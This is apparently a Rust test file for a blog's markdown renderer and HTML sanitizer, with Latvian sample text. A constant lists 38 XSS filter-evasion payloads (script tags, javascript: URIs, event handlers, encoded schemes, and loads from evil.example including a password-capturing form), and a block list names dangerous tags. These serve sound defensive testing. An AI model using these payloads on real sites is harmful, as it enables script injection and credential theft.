use super::*;
use crate::store::PictureName;

#[track_caller]
fn html_of(markdown: &str) -> String {
    render(markdown).expect("not too complicated")
}

#[test]
fn markdown_and_html_become_what_the_page_shows() {
    for (markdown, html) in [
        ("Viens *divi* ~~trīs~~", "<p>Viens <em>divi</em> <del>trīs</del></p>\n"),
        ("<u>HTML</u> der", "<p><u>HTML</u> der</p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        (
            "[saite](https://example.com/)",
            "<p><a href=\"https://example.com/\" rel=\"noopener\">saite</a></p>\n",
        ),
    ] {
        assert_eq!(html_of(markdown), html);
    }
    let table = html_of("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(table.contains("<td align=\"right\">2</td>") && !table.contains("style"), "{table}");
    let image = html_of("![Zvaigzne](/blog-images/a.webp)");
    assert!(image.contains("src=\"/blog-images/a.webp\"") && image.contains("loading=\"lazy\""));
}

#[test]
fn headings_begin_at_the_second_level_and_have_ids_of_their_own() {
    let html = html_of("# Soļi\n\n## Pirmais\n\n## Pirmais");
    assert!(html.contains("<h2 id=\"post-soli\">Soļi</h2>"), "{html}");
    assert!(html.contains("<h3 id=\"post-pirmais\">"), "{html}");
    assert!(html.contains("<h3 id=\"post-pirmais-2\">"), "{html}");
    assert!(html_of("### Viens\n\n###### Divi").starts_with("<h2"), "the highest is the second");
    let raw = html_of("<h1>Pats</h1>\n\n<H1 class=x>Liels</H1>");
    assert!(raw.contains("<h2>Pats</h2>") && raw.contains("<h2>Liels</h2>"), "{raw}");
}

#[test]
fn footnotes_stand_at_the_end_in_the_order_of_their_calls_with_ways_there_and_back() {
    let html = html_of(
        "Viens[^b] un divi[^a], atkal[^b].\n\n[^a]: Otrā, kas sauc[^c].\n\n[^b]: Pirmā.\n\n\
         [^c]: Trešā.\n\n[^d]: Nesaukta.\n\nBeigas.",
    );
    let (text, notes) = html.split_once("<ol class=\"footnotes\">").expect("a list");
    assert!(text.contains("<p>Beigas.</p>") && !text.contains("Pirmā"), "{html}");
    let order: Vec<_> = ["Pirmā.", "Otrā", "Trešā.", "Nesaukta."]
        .map(|note| notes.find(note).expect("each note"))
        .to_vec();
    assert!(order.is_sorted(), "{notes}");
    for (place, part) in [
        (text, "id=\"post-fnref_1\"><a href=\"#post-fn_1\" rel=\"noopener\">1</a></sup>"),
        (text, "id=\"post-fnref_1_2\"><a href=\"#post-fn_1\""),
        (
            notes,
            "<li id=\"post-fn_1\">\n<p>Pirmā. <a href=\"#post-fnref_1\" rel=\"noopener\">↩</a></p>",
        ),
        (notes, "id=\"post-fnref_3\""),
    ] {
        assert!(place.contains(part), "{part}\n{html}");
    }
    assert!(!notes.contains("#post-fnref_4"), "what nothing calls has no way back: {notes}");
}

#[test]
fn tasks_have_boxes_that_show_their_state_and_are_named_by_their_words() {
    let open = "<label><input type=\"checkbox\" disabled=\"\"> ";
    let html = html_of("- [x] **Viens** solis\n- [ ] Divi\n  - [ ] Apakšā\n- Trīs");
    assert!(html.contains("checked=\"\"") && html.contains("<strong>Viens</strong> solis</label>"));
    assert!(html.contains(&format!("<li>{open}Divi</label>")), "{html}");
    assert!(html.contains(&format!("<li>{open}Apakšā</label></li>")), "{html}");
    assert!(html.contains("<li>Trīs</li>") && html.matches("<input").count() == 3, "{html}");
    let loose = html_of("- [ ] Viens\n\n- [ ] Divi");
    assert!(loose.contains(&format!("<p>{open}Viens</label></p>")), "{loose}");
    assert!(sections("- [x] Viens")[0].paragraphs == ["- Viens"], "no box in plain words");
}

#[test]
fn code_can_be_scrolled_by_keys_and_columns_keep_their_sides() {
    assert!(html_of("```\ngara rinda\n```").starts_with("<pre tabindex=\"0\"><code>"));
    assert!(html_of("| a | b |\n|---|---|\n| 1 | 2 |").starts_with("<table tabindex=\"0\">"));
    let table = html_of("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |");
    for cell in
        ["<th align=\"left\">a</th>", "<td align=\"center\">2</td>", "<td align=\"right\">3</td>"]
    {
        assert!(table.contains(cell), "{cell}\n{table}");
    }
}

#[test]
fn pictures_that_are_kept_here_get_their_sizes_and_others_none() {
    let name: PictureName = "01938a4e-0000-7000-8000-000000000001.jpg".parse().expect("a name");
    let url = name.url();
    let html = html_of(&format!(
        "![a > \"b\" <img src=]({url})\n\n<img src=\"{url}\" width=\"20\">\n\n\
         ![c](https://images.example/c.png) `<img src=\"{url}\">`"
    ));
    assert_eq!(unmeasured_pictures(&html), [name].into());
    let sized = with_sizes(&html, &[(name, (1600, 900))].into());
    assert_eq!(sized.matches("<img width=\"1600\" height=\"900\" ").count(), 1, "{sized}");
    assert_eq!(sized.replace(" width=\"1600\" height=\"900\"", ""), html, "nothing else");
    assert!(unmeasured_pictures(&sized).is_empty());
}

#[test]
fn sections_are_the_words_of_a_post_under_their_headings() {
    let markdown = "Ievads.\n\n## Soļi\n\nDivi *soļi*:\n\n- viens\n- <b>divi</b>\n\n\
                    | a | b |\n|---|---|\n| 1 | 2 |\n\n## Tukšs";
    let section = |heading: &str, paragraphs: &[&str]| Section {
        heading: heading.into(),
        paragraphs: paragraphs.iter().map(ToString::to_string).collect(),
    };
    let expected = [
        section("", &["Ievads."]),
        section("Soļi", &["Divi soļi:", "- viens", "- divi", "a; b;", "1; 2;"]),
    ];
    assert_eq!(sections(markdown), expected);
}

/// Inspired by the OWASP cheat sheet on filter evasion.
const ATTACKS: [&str; 38] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=\"jav\tascript:alert(1);\">",
    "<img src=\"jav&#x0A;ascript:alert(1);\">",
    "<img src=\" &#14;  javascript:alert(1);\">",
    "<img src=/x.png/onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x",
    "<input type=image src=x onerror=alert(1) formaction=//evil.example name=a value=b autofocus>",
    "<label for=root onclick=alert(1)><input type=text placeholder=Parole></label>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
];

#[test]
fn nothing_in_a_post_can_run_load_styles_or_send_a_form() {
    for attack in ATTACKS {
        for markdown in [attack.to_owned(), format!("- text {attack}\n"), format!("> {attack}")] {
            let html = html_of(&markdown);
            // What was written as text may stay as text: only tags count.
            for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
                let tag = tag.to_lowercase();
                for bad in [
                    "script", "style", "svg", "math", "iframe", "object", "embed", "link", "meta",
                    "base", "form", "input", "button", "body", "vbscript", "data:",
                ] {
                    assert!(!tag.contains(bad), "{markdown}\n{html}");
                }
                assert!(!tag.contains(" on"), "{markdown}\n{html}");
            }
        }
    }
}

#[test]
fn ids_of_a_post_are_never_those_of_the_page() {
    let html = html_of("# State\n\n<p id=root>a</p><a name=state href=#root>b</a>");
    assert!(html.contains("id=\"post-state\"") && html.contains("id=\"post-root\""), "{html}");
    assert!(html.contains("href=\"#post-root\"") && !html.contains("name="), "{html}");
}

#[test]
fn pictures_come_from_here_or_over_https() {
    for bad in ["http://images.example/a.png", "//images.example/a.png", "data:image/png;base64,AA"]
    {
        assert!(!html_of(&format!("![x]({bad})")).contains("src="), "{bad}");
    }
    assert!(html_of("![x](https://images.example/a.png)").contains("src=\"https://images"));
}

#[test]
fn what_would_become_too_much_is_refused() {
    let times = |piece: &str| piece.repeat(100_000 / piece.len());
    let numbered = |count: usize, before: &str, after: &str| {
        (0..count).map(|n| [before, &n.to_string(), after].concat()).collect::<String>()
    };
    for markdown in [
        times(">"),
        times("> "),
        times("- ") + "a",
        times("1. ") + "a",
        times("> - "),
        times("<div>"),
        times("<b></x>"),
        times("<b><div></b>"),
        times("<svg><td>"),
        numbered(8_000, "<b id=", ">"),
        // Forty are opened anew in each paragraph.
        numbered(40, "<b id=", ">") + &times("<p>a"),
    ] {
        let html = render(&markdown);
        let start: String = markdown.chars().take(40).collect();
        assert_eq!(html.as_ref().map(String::len), Err(&TooComplex), "{start}");
        assert!(sections(&markdown).len() <= 1, "{start}");
    }
}

#[test]
fn a_long_text_of_usual_depth_is_no_danger() {
    for piece in [
        "[",
        "*a ",
        "a\n\n- b\n  - c\n    - d\n\n",
        "> a\n> > b\n\n",
        "`",
        "![",
        "&amp;",
        "<p>a",
        "* * * * * * * * * * * * * * * * * * * *\n\n",
        "a | b\n--|--\n1 | 2\n\n",
        "<li>a",
        "</b>",
    ] {
        let html = html_of(&piece.repeat(100_000 / piece.len()));
        assert!(!html.is_empty(), "{piece}");
    }
    // Ten thousand columns with as many rows, and a long address that is named often.
    let table =
        format!("{}|\n{}|\n{}", "|a".repeat(10_000), "|-".repeat(10_000), "|\n".repeat(20_000));
    let named = format!("[a]: /{}\n\n{}", "b".repeat(50_000), "[a] ".repeat(12_000));
    for markdown in [table, named] {
        assert!(html_of(&markdown).len() < 1 << 20);
    }
}
